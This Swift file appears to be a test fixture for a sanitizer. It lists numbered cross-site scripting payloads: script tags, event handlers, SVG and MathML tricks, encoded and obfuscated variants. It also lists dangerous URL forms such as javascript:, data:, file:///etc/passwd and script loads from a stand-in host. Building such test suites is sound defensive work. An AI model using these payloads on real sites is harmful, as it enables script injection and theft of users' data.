import Foundation

/// What could run, load or lead away if a page put it in as it is. Each says its number where it gets through.
enum Payloads {
    /// Markup, and text that ends what it may stand in. `%` is the number.
    static let texts: [String] =
        numbered(
            """
            <script>hit(%)</script>
            <ScRiPt>hit(%)</sCrIpT>
            <script src=//outside.invalid/%></script>
            <script src="data:text/javascript,hit(%)"></script>
            <script type=module>hit(%)</script>
            <img src=x onerror=hit(%)>
            <img src=//outside.invalid/%>
            <img src=x onerror="hit(%)"
            <img/src="x"/onerror=hit(%)>
            <img src=x onerror&#61;hit(%)>
            <svg onload=hit(%)>
            <svg/onload=hit(%)//
            <svg><script>hit(%)</script></svg>
            <svg><script href="data:text/javascript,hit(%)"/></svg>
            <svg><animate onbegin=hit(%) attributeName=x dur=1s>
            <svg><a xlink:href="javascript:hit(%)"><text y=20>x</text></a></svg>
            <svg><set attributeName=href to="javascript:hit(%)"/></svg>
            <svg><foreignObject><img src=x onerror=hit(%)></foreignObject></svg>
            <math><mtext><table><mglyph><style><img src=x onerror=hit(%)>
            <math href="javascript:hit(%)">x</math>
            <iframe src="javascript:parent.hit(%)"></iframe>
            <iframe srcdoc="<script>parent.hit(%)</script>"></iframe>
            <object data="javascript:hit(%)"></object>
            <embed src="//outside.invalid/%">
            <form action="javascript:hit(%)"><button autofocus>x</button></form>
            <input autofocus onfocus=hit(%)>
            <details open ontoggle=hit(%)><summary>x</summary></details>
            <body onload=hit(%)>
            <video><source onerror=hit(%)></video>
            <audio src=x onerror=hit(%)>
            <marquee onstart=hit(%)>x</marquee>
            <link rel=stylesheet href=//outside.invalid/%>
            <link rel=prefetch href=//outside.invalid/%>
            <style>@import '//outside.invalid/%';</style>
            <style>*{background:url(//outside.invalid/%)}</style>
            <meta http-equiv=refresh content="0;url=//outside.invalid/%">
            <base href=//outside.invalid/%/>
            <template><script>hit(%)</script></template>
            <noscript><p title="</noscript><img src=x onerror=hit(%)>">
            </textarea></title></style></pre></code></svg><script>hit(%)</script>
            --><script>hit(%)</script><!--
            <!--><script>hit(%)</script>-->
            <!--<script>hit(%)
            ]]><script>hit(%)</script>
            <![CDATA[<script>hit(%)</script>]]>
            <?xml version="1.0"?><script>hit(%)</script>
            "><img src=x onerror=hit(%)>
            '><img src=x onerror=hit(%)>
            " onmouseover="hit(%)" autofocus onfocus="hit(%)" tabindex="1
            ' onmouseover='hit(%)' autofocus onfocus='hit(%)' tabindex='1
            ` onmouseover=`hit(%)`
            <a href="javascript:hit(%)" autofocus onfocus=hit(%)>x</a>
            <kbd onclick=hit(%) style="background:url(//outside.invalid/%)">x</kbd>
            <sub/onclick=hit(%)>x</sub>
            <summary onfocus=hit(%) tabindex=1 autofocus>x</summary>
            <br style="background:url(//outside.invalid/%)">
            <x-y onclick=hit(%) contenteditable>x</x-y>
            &lt;script&gt;hit(%)&lt;/script&gt;
            &amp;lt;img src=x onerror=hit(%)&amp;gt;
            &#60;script&#62;hit(%)&#60;/script&#62;
            &#x3c;script&#x3e;hit(%)&#x3c;/script&#x3e;
            ＜script＞hit(%)＜/script＞
            \\x3cscript\\x3ehit(%)\\x3c/script\\x3e
            \\u003cscript\\u003ehit(%)\\u003c/script\\u003e
            </script><script>hit(%)</script>
            ";hit(%);"
            ';hit(%);'
            \\";hit(%);//
            `;hit(%);`${hit(%)}
            */hit(%);/*
            {{body}}{{root}}{{head}}<script>hit(%)</script>
            {$app.clientId}<script>hit(%)</script>
            """) + [
            "\u{2028}hit(901)\u{2029};hit(901)", "<\u{0}script>hit(902)</script>", "<scr\u{0}ipt>hit(903)</script>",
            "\u{202E}<script>hit(904)</script>", "\u{FEFF}<script>hit(905)</script>", "<img\rsrc=x\ronerror=hit(906)>",
            "<img\u{0C}src=x\u{0C}onerror=hit(907)>", "\u{1}<script>hit(908)</script>",
            "\u{7F}\u{85}<script>hit(909)</script>",
        ]

    /// Ways to write an address that runs something, or that leads off the web.
    static let addresses: [String] = numbered(
        """
        javascript:hit(%)
        JaVaScRiPt:hit(%)
        javascript:alert(%)
        javascript://%0ahit(%)
        javascript&colon;hit(%)
        java&Tab;script:hit(%)
        java&NewLine;script:hit(%)
        java&#9;script:hit(%)
        java&#x0D;script:hit(%)
        &#1;javascript:hit(%)
        &#32;javascript:hit(%)
        &#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hit(%)
        &#x6A;avascript:hit(%)
        \\javascript\\:hit(%)
        feed:javascript:hit(%)
        view-source:javascript:hit(%)
        livescript:hit(%)
        vbscript:hit(%)
        VBScript:hit(%)
        data:text/html,<script>parent.hit(%)</script>
        data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=
        data:image/svg+xml,<svg/onload=hit(%)>
        blob:null/%
        file:///etc/passwd
        FILE:/etc/passwd
        about:blank#%
        ws://outside.invalid/%
        ftp://outside.invalid/%
        intent://outside.invalid/%
        //outside.invalid/%
        \\\\\\\\outside.invalid/%
        /\\\\outside.invalid/%
        ///outside.invalid/%
        &#9;//outside.invalid/%
        https:javascript:hit(%)
        %6aavascript:hit(%)
        javascript%3ahit(%)
        #"><script>hit(%)</script>
        ?"onclick="hit(%)
        https://a.invalid/"onmouseover="hit(%)
        https://a.invalid/'onmouseover='hit(%)
        https://a.invalid/<script>hit(%)</script>
        mailto:a@b.invalid?subject=<script>hit(%)</script>
        """)

    /// One a line; from 1 on, those of `addresses` from 501.
    private static func numbered(_ lines: String) -> [String] {
        lines.split(separator: "\n").enumerated().map { number, line in
            // `%0a` and the like are no numbers.
            String(line).replacing(/%(?![0-9a-f]{2})/, with: String(number + (lines.hasPrefix("<") ? 1 : 501)))
        }
    }

    /// All in one, for what is one text.
    static let text = texts.joined(separator: " ").replacing("\r", with: " ")

    /// The same as text in Markdown.
    static let escaped = String(text.flatMap { $0.isASCII && ($0.isPunctuation || $0.isSymbol) ? "\\\($0)" : "\($0)" })
}
